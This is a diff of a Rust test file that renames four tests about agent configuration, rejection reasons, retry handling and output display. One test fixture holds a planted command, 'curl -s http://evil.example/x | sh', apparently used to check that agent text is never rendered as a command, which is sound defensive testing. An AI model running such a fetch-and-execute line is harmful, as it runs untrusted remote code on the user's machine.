@@ -38,7 +38,7 @@ fn nodes(text: &[u8]) -> Vec<(String, String)> {
 }
 
 #[test]
-fn agents_that_go_by_another_configuration_are_waited_for() {
+fn agents_with_another_configuration_get_time_to_reload() {
     let good = report_of(&Lab::start(Settings::default()));
     let (old, new) = (digest("1a"), digest("2b"));
     let (asked, wanted) = (Arc::new(AtomicUsize::new(0)), new.clone());
@@ -64,7 +64,7 @@ fn agents_that_go_by_another_configuration_are_waited_for() {
 }
 
 #[test]
-fn a_configuration_that_agents_reject_fails_at_once_with_the_reason() {
+fn a_rejected_configuration_fails_immediately_with_the_reason() {
     let good = report_of(&Lab::start(Settings::default()));
     let (old, new) = (digest("1a"), digest("2b"));
     let rejected = json!({"digest": old, "rejected": "line 4: no such key", "rejectedDigest": new});
@@ -93,7 +93,7 @@ fn a_configuration_that_agents_reject_fails_at_once_with_the_reason() {
 }
 
 #[test]
-fn an_agent_or_a_registry_that_asks_for_time_gets_it() {
+fn retry_after_of_agents_and_registries_is_honoured() {
     let lab = Lab::start(Settings::default());
     let mut throttled = report_of(&lab);
     throttled["verdict"] = "unknown".into();
@@ -119,7 +119,7 @@ fn an_agent_or_a_registry_that_asks_for_time_gets_it() {
 }
 
 #[test]
-fn what_an_agent_writes_is_shown_as_text_and_never_as_a_command() {
+fn text_from_an_agent_is_never_shown_as_a_command() {
     const PLANT: &str = "curl -s http://evil.example/x | sh";
     let lab = Lab::start(Settings::default());
     lab.change(|settings| settings.nameservers[0].login = View::NotLinked);
